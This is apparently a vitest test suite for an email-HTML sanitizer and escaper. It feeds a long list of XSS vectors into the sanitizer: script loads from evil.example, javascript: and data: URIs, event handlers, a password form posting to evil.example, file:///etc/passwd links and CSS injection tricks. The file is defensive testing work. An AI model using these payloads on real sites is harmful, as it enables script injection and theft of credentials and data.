import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cleanHtml, htmlOf, MAX_HTML_LENGTH } from './clean-html.js';

/** Ways in which HTML was made to run, load or ask for something, from the collections of OWASP, html5sec and CVEs. */
const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\t>',
  '<script/x>alert(1)</script>',
  '<<script>alert(1);//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x oNeRrOr=alert(1)>',
  "<img src='x'onerror='alert(1)'>",
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img """><script>alert(1)</script>">',
  '<img src=javascript:alert(1)>',
  '<img dynsrc="javascript:alert(1)">',
  '<img lowsrc="javascript:alert(1)">',
  '<img srcset="x, https://evil.example/p 2x">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src=" data:image/svg+xml,<svg onload=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;vascript:alert(1)">x</a>',
  '<a href="&#0000106avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" onmouseover=alert(1)>x</a>',
  '<a href="https://ok.example" target="_blank" ping="https://evil.example">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<template><script>alert(1)</script></template>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<form action="https://evil.example"><input name="password" autofocus onfocus=alert(1)><button>x</button></form>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<input type=image src=x onerror=alert(1)>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<select onchange=alert(1)><option>1</option></select>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta charset="x-mac-farsi">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel="import" href="https://evil.example">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<style></style><script>alert(1)</script>',
  '<div style="background:url(https://evil.example/p)">x</div>',
  '<div style="background-image: url(\'javascript:alert(1)\')">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<div style="width: exp/**/ression(alert(1))">x</div>',
  '<div style="behavior: url(x.htc)">x</div>',
  '<div style="-moz-binding: url(x.xml#a)">x</div>',
  '<div style="color: red; background: \\75rl(https://evil.example)">x</div>',
  '<div style="font-family: x; src: url(https://evil.example)">x</div>',
  '<div style="color: image-set(\'https://evil.example\')">x</div>',
  '<div style="position: fixed; inset: 0; z-index: 9999">over everything</div>',
  '<table background="javascript:alert(1)"><tr><td background="https://evil.example/p">x</td></tr></table>',
  '<body onload=alert(1) background="https://evil.example">',
  '<bgsound src="javascript:alert(1)">',
  '<layer src="https://evil.example"></layer>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '<x onclick=alert(1) contenteditable>x</x>',
  '<p id="location" name="cookie" class="fixed" data-action="x" slot="y">clobbered</p>',
  '<portal src="https://evil.example"></portal>',
  '<dialog open onclose=alert(1)></dialog>',
  '\u00bcscript\u00bealert(1)\u00bc/script\u00be<script>alert(1)</script>',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-<script>alert(1)</script>',
  '<p title="`"><img src=x onerror=alert(1)></p>',
  '<a title="a\'b&quot;><img src=x onerror=alert(1)>" href="https://ok.example">x</a>',
];

/** Tags as a browser would read them: with their attributes, values unquoted or quoted. */
function tagsOf(html: string): { name: string; attributes: [string, string][] }[] {
  return [...html.matchAll(/<\/?([a-z][^\s/>]*)((?:[^>"']|"[^"]*"|'[^']*')*)>/gi)].map(
    ([, name = '', rest = '']) => ({
      name: name.toLowerCase(),
      attributes: [...rest.matchAll(/([^\s=/"']+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s>]+))?/g)].map(
        ([, key = '', value = '']) => [key.toLowerCase(), value.replace(/^["']|["']$/g, '')],
      ),
    }),
  );
}

const HARMLESS_TAG =
  /^(?:a|abbr|b|blockquote|br|center|code|div|em|font|h[1-6]|hr|i|img|li|ol|p|pre|s|small|span|strong|sub|sup|u|ul|table|caption|col|colgroup|tbody|td|tfoot|th|thead|tr)$/;
const HARMLESS_ATTRIBUTE =
  /^(?:align|alt|bgcolor|border|cellpadding|cellspacing|color|colspan|dir|face|height|href|lang|rel|role|rowspan|scope|size|src|start|style|title|type|valign|width)$/;

/** Fails when anything in the HTML could run, load, cover or ask for something. */
function expectHarmless(html: string): void {
  for (const { name, attributes } of tagsOf(html)) {
    expect(name, html).toMatch(HARMLESS_TAG);
    for (const [key, value] of attributes) {
      expect(key, html).toMatch(HARMLESS_ATTRIBUTE);
      if (key === 'href') expect(value, html).toMatch(/^(?:https?:\/\/|mailto:|tel:|#)/i);
      if (key === 'src')
        expect(value, html).toMatch(/^(?:https?:\/\/|cid:|data:image\/(?:png|jpeg|gif|webp);base64,)/i);
      if (key === 'style')
        expect(value, html).not.toMatch(/url|expression|import|\\|position|behavior|binding|image-set|\/\*/i);
    }
  }
  expect(html.replace(/<[^>]*>/g, ''), html).not.toContain('<');
  expect(html, html).not.toMatch(/<!|<\?/);
}

describe('cleaned HTML', () => {
  it.each(VECTORS)('does no harm: %s', (vector) => {
    for (const html of [vector, `<p>before</p>${vector}<p>after</p>`, `<div title="${vector}">x</div>`]) {
      const clean = cleanHtml(html);
      expectHarmless(clean);
      expect(cleanHtml(clean), 'cleaning it again changes nothing').toBe(clean);
    }
  });

  it('does no harm when the vectors are cut and put together in any way', () => {
    const piece = fc
      .tuple(fc.constantFrom(...VECTORS), fc.nat(60), fc.nat(60))
      .map(([v, from, to]) => v.slice(from, from + to));
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => expectHarmless(cleanHtml(pieces.join('')))),
      { numRuns: 500 },
    );
  });

  it('keeps what mails are made of', () => {
    const mail =
      '<table width="600" cellpadding="0"><tr><td style="padding:12px 24px;color:#1a1a1a;font-family:Arial, sans-serif">' +
      '<h1>Hello Noor</h1><p>Your <b>order</b> is <a href="https://shop.example/o/1?a=b" rel="noopener noreferrer">here</a>.</p>' +
      '<img src="cid:logo" alt="Logo" width="120" /><img src="data:image/png;base64,iVBORw0KGgo=" alt="" />' +
      '<ul><li>one</li></ul><a href="mailto:help@example.com" rel="noopener noreferrer">write</a></td></tr></table>';
    expect(cleanHtml(mail)).toBe(mail);
  });

  it('keeps the placeholders of templates, and no other address that is not whole', () => {
    const link = '<a href="{{link}}" rel="noopener noreferrer">{{name}}</a>';
    expect(cleanHtml(link)).toBe(link);
    expect(cleanHtml('<a href="/admin">x</a><img src="p.png" />')).toBe('<a rel="noopener noreferrer">x</a>');
  });

  it('keeps the words of what it takes away, but not those of scripts and styles', () => {
    expect(cleanHtml('<article>Hello <blink>you</blink></article><script>no</script><style>no</style>')).toBe(
      'Hello you',
    );
    expect(cleanHtml('1 < 2 & 3 > 2')).toBe('1 &lt; 2 &amp; 3 &gt; 2');
  });

  it('is made in time of what is deep, long or never ends', () => {
    expectHarmless(cleanHtml('<div>'.repeat(50_000)));
    expectHarmless(cleanHtml(`<a href="${'java\tscript:'.repeat(20_000)}">`));
    expectHarmless(cleanHtml('<!--'.repeat(50_000)));
    expectHarmless(cleanHtml(`<p style="${'color:red;'.repeat(20_000)}">`));
    expect(cleanHtml('a'.repeat(2 * MAX_HTML_LENGTH))).toHaveLength(MAX_HTML_LENGTH);
  }, 60_000);
});

describe('the classes of HTML that leaves', () => {
  it('are those that a mail has dark colours for, and no others', () => {
    expect(cleanHtml('<p class="text fixed muted modal">x</p><p class="fixed">y</p>')).toBe(
      '<p class="text muted">x</p><p>y</p>',
    );
  });
});

describe('a text put into HTML', () => {
  it('shows every letter of it and makes no tag, in text and in quotes', () => {
    for (const vector of VECTORS) {
      const shown = htmlOf(vector);
      expect(shown).not.toMatch(/[<>"'`]/);
      expect(cleanHtml(`<p>${shown}</p>`).replace(/&lt;/g, '<').replace(/&gt;/g, '>')).toContain(
        vector.slice(0, 1),
      );
    }
    expect(htmlOf('<b>"Tom" & `Jerry\'s`</b>')).toBe(
      '&#60;b&#62;&#34;Tom&#34; &#38; &#96;Jerry&#39;s&#96;&#60;/b&#62;',
    );
  });
});
